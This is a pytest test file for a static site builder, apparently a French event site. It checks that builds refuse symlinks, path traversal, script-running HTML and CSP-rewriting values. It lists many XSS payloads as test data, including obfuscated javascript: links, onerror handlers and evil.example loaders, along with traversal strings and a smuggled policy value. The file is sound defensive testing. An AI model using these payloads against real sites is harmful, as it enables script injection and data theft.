"""Content written by a careless or hostile hand: nothing outside content/ is read or published, no script,
frame or third-party load reaches a page or a feed, and `invoke check` says so like the build does."""

from __future__ import annotations

import os

import feedparser
import pytest
from programme.build.check import check_site
from programme.problems import ContentError

SECRET = "SECRET=hunter2-do-not-publish"
EVENT = "Title: Soirée\nDate: 2026-12-20 19:00\nVenue: museum\n"


@pytest.fixture
def outside(tmp_path):
    """A folder beside content/ holding what no build may publish: a secret, a page, an image."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.env").write_text(SECRET + "\n")
    (folder / "leak.md").write_text(f"Title: Fuite\nDate: 2026-12-20 19:00\nVenue: museum\n\n{SECRET}\n")
    (folder / "photo.jpg").write_bytes((tmp_path / "content" / "images" / "affiche.jpg").read_bytes())
    return folder


def refused(site) -> tuple[list, str]:
    """The build's problems (it must refuse), and `invoke check`'s, which must name the same ones."""
    with pytest.raises(ContentError) as error:
        site.build()
    checked = check_site(site.settings())
    assert {(p.path, p.line, p.field) for p in checked.problems} == {(p.path, p.line, p.field) for p in error.value.problems}
    return error.value.problems, str(error.value)


def published(site) -> bytes:
    return b"".join(site.files().values()) if site.output.exists() else b""


def assert_nothing_leaked(site, before: dict[str, bytes]) -> None:
    assert site.files() == before, "a refused build changed the output"
    assert SECRET.encode() not in published(site)


# -- links (git stores them as readily as files) ----------------------------------------------------


@pytest.mark.parametrize("link, target", [
    ("evenements/fuite.md", "leak.md"),            # a content file
    ("media/secret.env", "secret.env"),            # a document published as it is
    ("media/dossier", "."),                        # a whole folder
    ("pages/dossier", "."),                        # a folder of Pelican's pages
    ("images/photo.jpg", "photo.jpg"),             # an image
])
def test_a_symbolic_link_is_never_followed_and_is_reported_by_path(site, outside, link, target):
    site.build()
    before = site.files()
    os.symlink(outside / target, site.content / link)
    problems, message = refused(site)
    assert [p.path for p in problems] == [link]
    assert "lien symbolique" in message
    assert_nothing_leaked(site, before)


def test_a_link_loop_is_reported_and_does_not_hang_the_build(site):
    os.symlink(".", site.content / "evenements" / "boucle")
    problems, _message = refused(site)
    assert [p.path for p in problems] == ["evenements/boucle"]


def test_a_dangling_editor_lock_and_hidden_files_are_skipped_silently_and_never_published(site):
    os.symlink("root@machine.1234:1700000000", site.content / "evenements" / ".#sols-vivants.md")
    for name in (".env", "~$rapport.docx", "notes.md.swp", ".DS_Store", "programme.pdf~"):
        site.write(f"media/{name}", SECRET)
    site.write("media/.git/config", SECRET)
    site.write("evenements/.cache.md", EVENT + "\n" + SECRET)
    site.build()
    assert SECRET.encode() not in published(site)
    assert not any(part.startswith((".", "~")) for path in site.files() for part in path.split("/"))
    assert check_site(site.settings()).problems == []


# -- paths written in fields and bodies -------------------------------------------------------------


FIELD_CASES = {
    "Image": ("evenements/x.md", EVENT + "ImageAlt: Une photo\nImage: {path}\n\nTexte."),
    "Photo": ("chercheurs/x.md", "Title: X\nPhoto: {path}\n\nTexte."),
    "Logo": ("partenaires/x.md", "Title: X\nLogo: {path}\n\nTexte."),
    "Poster": ("webtv/x.md", "Title: X\nVideo: https://youtu.be/Qm7vKx2Lp9A\nPoster: {path}\n\nTexte."),
    "Video": ("webtv/x.md", "Title: X\nVideo: {path}\n\nTexte."),
    "Captions": ("webtv/x.md", "Title: X\nVideo: https://youtu.be/Qm7vKx2Lp9A\nCaptions: {path}\n\nTexte."),
}
SUFFIX = {"Video": ".mp4", "Captions": ".vtt"}


@pytest.mark.parametrize("field", FIELD_CASES)
@pytest.mark.parametrize("way", ["dot-dot", "encoded-root", "through-link"])
def test_a_path_in_a_field_never_leaves_content(site, outside, field, way):
    suffix = SUFFIX.get(field, ".jpg")
    (outside / f"file{suffix}").write_bytes((outside / "photo.jpg").read_bytes())
    if way == "through-link":
        os.symlink(outside, site.content / "media" / "ailleurs")
        path = f"media/ailleurs/file{suffix}"
    elif way == "dot-dot":
        path = f"../outside/file{suffix}"
    else:
        path = f"media/../../outside/file{suffix}"
    relative, text = FIELD_CASES[field]
    site.write(relative, text.format(path=path))
    problems, message = refused(site)
    ours = [p for p in problems if p.path == relative]
    assert [(p.field, p.line) for p in ours] == [(field, text.format(path=path).splitlines().index(f"{field}: {path}") + 1)]
    assert ("hors du dossier content/" if way != "through-link" else "lien symbolique") in ours[0].message
    assert SECRET.encode() not in published(site)


@pytest.mark.parametrize("body", [
    "![Photo](../../outside/photo.jpg)",
    "[Le secret]({static}/../outside/secret.env)",
    "[Le secret]({attach}/../../outside/secret.env)",
    "[Le secret](|static|/../outside/secret.env)",
    "[Le secret](%2e%2e/%2e%2e/outside/secret.pdf)",
    "[Le secret]({static}/.calendar-ledger.json)",
    "[La mémoire](.memoire-calendriers/sols-vivants.json)",
])
def test_a_path_in_a_body_never_leaves_content_and_is_reported_at_its_line(site, outside, body):
    site.build()
    before = site.files()
    site.write("pages/equipe.md", f"Title: Équipe\n\nPremier paragraphe.\n\n{body}\n")
    problems, _message = refused(site)
    assert [(p.path, p.line) for p in problems] == [("pages/equipe.md", 5)]
    assert_nothing_leaked(site, before)


@pytest.mark.parametrize("relative, text, field", [
    ("webtv/x.md", "Title: X\nVideo: https://youtu.be/Qm7vKx2Lp9A\nCaptions: images/x.vtt\n\nTexte.", "Captions"),
    ("webtv/x.md", "Title: X\nVideo: webtv/x.mp4\n\nTexte.", "Video"),
])
def test_a_file_a_page_plays_must_be_in_a_folder_the_site_publishes(site, relative, text, field):
    site.write("images/x.vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\nBonjour\n")
    site.write("webtv/x.mp4", b"\x00\x00\x00\x18ftypmp42")
    site.write(relative, text)
    problems, message = refused(site)
    assert [(p.path, p.field) for p in problems] == [(relative, field)]
    assert "dossier que le site publie" in message and "content/media/" in message


def test_a_video_line_in_a_body_must_name_a_published_file(site):
    site.write("webtv/x.mp4", b"\x00\x00\x00\x18ftypmp42")
    site.write("pages/video.md", "Title: Vidéo\n\nTexte.\n\n[video: webtv/x.mp4 | Entretien]\n")
    problems, message = refused(site)
    assert [(p.path, p.line) for p in problems] == [("pages/video.md", 5)]
    assert "dossier que le site publie" in message


def test_media_publishes_documents_not_code(site):
    site.build()
    before = site.files()
    for name in ("outil.js", "page.html", "logo.svg", "flux.xml", "index.php", "module.mjs", "vieux.HTM"):
        site.write(f"media/{name}", "<script>alert(1)</script>")
    problems, message = refused(site)
    assert sorted(p.path for p in problems) == sorted(f"media/{name}" for name in
                                                      ("outil.js", "page.html", "logo.svg", "flux.xml", "index.php",
                                                       "module.mjs", "vieux.HTM"))
    assert "exécuterait comme du code" in message
    assert site.files() == before


# -- HTML in bodies ---------------------------------------------------------------------------------


ATTACKS = {
    "<script>alert(1)</script>": "<script>",
    '<iframe width="560" src="https://www.youtube.com/embed/Qm7vKx2Lp9A"></iframe>': "[video:",
    '<object data="https://evil.example/x.swf"></object>': "[video:",
    '<embed src="https://evil.example/x.swf">': "[video:",
    '<form action="https://evil.example"><input name="q"></form>': "formulaire",
    '<meta http-equiv="refresh" content="0; url=https://evil.example">': "<meta>",
    '<base href="https://evil.example/">': "<base>",
    '<link rel="stylesheet" href="https://evil.example/x.css">': "<link>",
    "<style>body { background: url(https://evil.example/p.gif) }</style>": "<style>",
    '<p onclick="alert(1)">Cliquez</p>': "onclick",
    '<a href="javascript:alert(1)">Lien</a>': "javascript:",
    '<a href="java&#9;script:alert(1)">Lien</a>': "javascript:",
    '<a href=" &#x0A;JaVaScRiPt:alert(1)">Lien</a>': "javascript:",
    '<a href="vbscript:msgbox(1)">Lien</a>': "vbscript:",
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Lien</a>': "data:",
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Point">': "data:",
    '<video src="https://evil.example/v.mp4" autoplay></video>': "[video:",
    '<audio src="https://evil.example/a.mp3"></audio>': "<audio>",
    '<svg><script>alert(1)</script></svg>': "SVG",
    '<p style="background:url(https://evil.example/p.gif)">Fond</p>': "style",
    '<a href="https://exemple.fr" ping="https://evil.example/track">Lien</a>': "ping",
    '<template><img src="x" onerror="alert(1)"></template>': "<template>",
}


@pytest.mark.parametrize("kind", ["event", "page", "news"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_html_that_runs_frames_or_loads_from_elsewhere_is_refused_at_its_line(site, attack, kind):
    relative, header = {"event": ("evenements/x.md", EVENT), "page": ("pages/x.md", "Title: X\n"),
                        "news": ("actualites/x.md", "Title: X\nDate: 2026-11-20\n")}[kind]
    site.build()
    before = site.files()
    site.write(relative, f"{header}\nUn paragraphe sans histoire.\n\n{attack}\n\nLa suite.\n")
    problems, message = refused(site)
    ours = [p for p in problems if p.path == relative]
    assert ours and all(p.line == len(header.splitlines()) + 4 for p in ours), message
    assert ATTACKS[attack] in message
    assert site.files() == before


def test_an_iframe_pasted_from_youtube_is_told_to_use_a_video_line(site):
    site.write("pages/x.md", 'Title: X\n\n<iframe src="https://www.youtube.com/embed/Qm7vKx2Lp9A" allowfullscreen></iframe>\n')
    _problems, message = refused(site)
    assert "[video: https://…]" in message


def test_a_summary_of_a_news_item_is_held_to_the_same_rules(site):
    site.write("actualites/x.md", "Title: X\nDate: 2026-11-20\nSummary: <img src=x onerror=alert(1)>\n\nTexte.\n")
    problems, _message = refused(site)
    assert [(p.path, p.field, p.line) for p in problems if p.path == "actualites/x.md"][0] == ("actualites/x.md", "Summary", 3)


def test_allowed_html_and_markdown_pass_unchanged_in_meaning(site):
    body = ("Un **tableau** :\n\n| Salle | Places |\n|:------|-------:|\n| A | 40 |\n\n"
            "<details><summary>Plus</summary>\n\nDétails.\n\n</details>\n\n"
            "Note[^1] et <abbr title=\"Muséum d'Orléans\">MOBE</abbr>, <kbd>Ctrl</kbd>.\n\n"
            "[Contact](mailto:contact@example.fr) · [Tél.](tel:+33238000000)\n\n[^1]: Une note.\n")
    site.write("pages/riche.md", f"Title: Riche\n\n{body}")
    site.build()
    page = site.html("riche/index.html").select_one(".prose")
    assert page.select_one("table td[align], table td[style]") is not None
    assert page.select_one("details summary").text == "Plus"
    assert page.select_one("abbr")["title"] == "Muséum d'Orléans"
    assert page.select_one('a[href="mailto:contact@example.fr"]') and page.select_one('a[href^="tel:"]')
    assert page.select_one("sup a[href^='#fn']") is not None


def test_feeds_carry_the_cleaned_html(built):
    for name in ("flux/agenda.atom", "flux/actualites.atom", "flux/webtv.atom"):
        feed = feedparser.parse(built.text(name))
        for entry in feed.entries:
            for content in entry.get("content", []):
                assert "<script" not in content.value and " on" not in content.value.lower().replace(" one", "")


# -- the Content-Security-Policy covers what bodies embed -------------------------------------------


@pytest.mark.browser
@pytest.mark.parametrize("line, host", [
    ("[video: https://tube.autre-instance.fr/w/9c9de5e8-0a1e-484a-b099-e80766180a6d | Conférence]",
     "https://tube.autre-instance.fr/"),
    ("[video: https://videos.exemple.org/conferences/sols.mp4 | Les sols]", "https://videos.exemple.org/"),
])
def test_a_video_embedded_in_a_body_plays_under_the_production_policy(site, browser, line, host):
    from quality import production_csp
    from serving import serve
    from test_quality_browser import WATCH_CSP

    site.write("pages/video.md", f"Title: Vidéo\n\nUne conférence d'un autre site.\n\n{line}\n")
    site.build()
    meta = site.html("video/index.html").find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert host.rstrip("/") in meta
    with serve(site.output, {"Content-Security-Policy": production_csp()}) as base:
        context = browser.new_context()
        context.add_init_script(WATCH_CSP)
        asked: list[str] = []

        def answer(route):
            if route.request.url.startswith(base):
                route.continue_()
            else:  # the video's host, played here by a stub page or file
                asked.append(route.request.url)
                route.fulfill(status=200, content_type="text/html", body="<p>lecteur</p>")

        context.route("**/*", answer)
        page = context.new_page()
        page.goto(f"{base}/video/", wait_until="networkidle")
        assert asked == []  # nothing before the click
        page.locator(".video-facade-link").click()
        page.wait_for_timeout(500)
        violations = page.evaluate("window.__cspViolations")
        context.close()
    assert violations == []
    assert any(url.startswith(host) for url in asked), asked


def test_a_video_host_cannot_rewrite_the_pages_policy(site):
    site.write("webtv/x.md", "Title: X\nVideo: https://a.fr;script-src%20*/w/9c9de5e8-0a1e-484a-b099-e80766180a6d\n\nTexte.")
    problems, _message = refused(site)
    assert [(p.path, p.field) for p in problems] == [("webtv/x.md", "Video")]
